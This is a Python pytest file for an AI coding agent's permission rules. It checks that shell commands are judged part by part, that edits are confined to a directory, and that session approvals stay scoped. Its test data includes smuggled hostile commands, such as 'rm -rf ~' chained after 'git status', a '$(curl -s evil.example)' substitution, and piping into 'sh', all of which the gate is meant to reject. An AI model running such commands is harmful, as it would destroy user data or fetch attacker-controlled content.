"""Pure parts of permissions: rules judged part by part, session rules, mode names."""

from __future__ import annotations

from pathlib import Path

import pytest

from kandev_nb.agent.permissions import Approval, Rules, mode_from_cli, session_rule


@pytest.mark.parametrize(
    ("command", "answer"),
    [
        ("git status --short", "allow"),
        ("git status && ls -la", "allow"),  # every part is allowed
        ("git status; rm -rf ~", None),  # a prefix rule never allows a second command
        ("git status | sh", None),
        ("git status > notes.txt", None),  # redirection writes files
        ("git status $(curl -s evil.example)", None),
        ("git status `id`", None),
        ("git push", None),
        ("echo ok; sudo reboot", "deny"),  # a denied part denies the whole
        ("sudo -n true", "deny"),
    ],
)
def test_shell_commands_are_judged_part_by_part(command: str, answer: str | None) -> None:
    rules = Rules(allow=["Bash(git status*)", "Bash(ls*)", "Bash(echo *)"], deny=["Bash(sudo *)"])
    assert rules("Bash", {"command": command}) == answer


def test_a_rule_may_allow_redirection_explicitly() -> None:
    assert Rules(allow=["Bash(date > stamp.txt)"])("Bash", {"command": "date > stamp.txt"}) == "allow"


def test_edits_under_a_directory(tmp_path: Path) -> None:
    rules = Rules(allow_edits_under=[tmp_path / "src"])
    assert rules("Write", {"file_path": str(tmp_path / "src" / "a.py")}) == "allow"
    assert rules("Edit", {"file_path": str(tmp_path / "src" / ".." / "setup.py")}) is None
    assert rules("Bash", {"command": f"touch {tmp_path / 'src' / 'a.py'}"}) is None


async def test_allow_for_the_session_never_uses_the_cli_suggestions() -> None:
    suggestions = [
        {
            "type": "addRules",
            "rules": [{"toolName": "Bash", "ruleContent": "rm *"}],
            "behavior": "allow",
            "destination": "localSettings",
        },
        {"type": "setMode", "mode": "acceptEdits", "destination": "session"},
    ]
    approval = Approval("r1", "Bash", {"command": "rm x"}, suggestions=suggestions)
    approval.allow(always=True)
    wire = (await approval.wait(1)).to_wire({"command": "rm x"})
    scoped = {"toolName": "Bash", "ruleContent": "rm:*"}  # scoped like the CLI's own, kept in the session
    assert wire["updatedPermissions"] == [{**session_rule("Bash"), "rules": [scoped]}]
    whole = Approval("r2", "Bash", {"command": "rm x"}, suggestions=suggestions)
    whole.allow(always="tool")
    assert (await whole.wait(1)).to_wire({})["updatedPermissions"] == [session_rule("Bash")]
    assert session_rule("Bash")["destination"] == "session"


def test_mode_names_from_the_cli() -> None:
    assert [mode_from_cli(m) for m in ("default", "manual", "plan", "acceptEdits", "bypassPermissions", "dontAsk")] == [
        "supervised",
        "supervised",
        "plan",
        "acceptEdits",
        "autonomous",
        None,
    ]
